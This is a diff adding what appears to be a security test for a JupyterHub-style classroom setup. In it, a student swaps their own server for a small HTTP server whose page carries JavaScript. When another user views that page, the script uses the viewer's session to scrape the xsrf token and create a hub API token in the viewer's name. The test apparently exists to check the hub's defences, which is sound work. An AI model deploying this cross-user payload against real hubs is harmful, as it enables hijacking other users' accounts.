@@ -1,0 +1,47 @@
+"""A learner who puts a program of their own in their server's place, to attack who looks at it."""
+
+from .people import A, Class
+
+MARK = "served by A"
+PAGE = """<title>waits</title><script>
+async function attack() {
+  const home = await (await fetch("HUB/hub/home", {credentials: "include"})).text();
+  const [xsrf, name] = ["xsrf_token", "user"].map((key) => home.match(`${key}: "([^"]+)"`)[1]);
+  const headers = {"Content-Type": "application/json"};
+  const where = `HUB/hub/api/users/${name}/tokens?_xsrf=${xsrf}`;
+  return (await fetch(where, {method: "POST", body: "{}", headers})).status;
+}
+attack().catch(String).then((status) => document.title = `MARK: ${status}`);
+</script>"""
+# As Jupyter's configuration, it turns the process that the hub has started into A's own.
+PROGRAM = """
+import os, urllib.parse
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+class Page(BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Cache-Control", "max-age=99999")
+        self.end_headers()
+        self.wfile.write({page!r}.encode())
+port = urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
+ThreadingHTTPServer(("127.0.0.1", port), Page).serve_forever()
+"""
+CONFIG = "my-work/.jupyter/jupyter_config.py"  # in the home of whoever does so
+
+
+def program(hub=""):
+    """Serves the page, which attacks the hub at that address."""
+    return PROGRAM.format(page=PAGE.replace("MARK", MARK).replace("HUB", hub))
+
+
+class Visit(Class):
+    """The class, in which A's program stands in the place of A's server."""
+
+    def start(self):
+        super().start()
+        write = f"import pathlib; pathlib.Path.home().joinpath({CONFIG!r}).write_text"
+        self.do(self.in_a.run(f"{write}({program()!r})"))
+        self.stop(self.a)
+        self.hub_api(self.a, "POST", "server")
+        self.until(lambda: MARK in self.get(f"/user/{A}/x", self.a)[2])
